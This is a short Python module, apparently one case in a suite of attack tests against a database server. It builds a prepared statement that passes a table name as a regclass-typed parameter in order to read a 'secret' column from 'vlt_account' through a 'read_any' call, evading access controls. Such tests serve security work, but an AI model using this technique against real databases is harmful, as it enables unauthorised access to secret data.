"""Hands the name of the table over as a parameter of its type."""

from attacks.frames import SYNC, ask, bind, execute, parse
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        prepared = parse(b"SELECT read_any(format('SELECT secret FROM %s', $1))", types=[2205])
        return ask(client, prepared, bind(values=[b"vlt_account"]), execute(), SYNC)
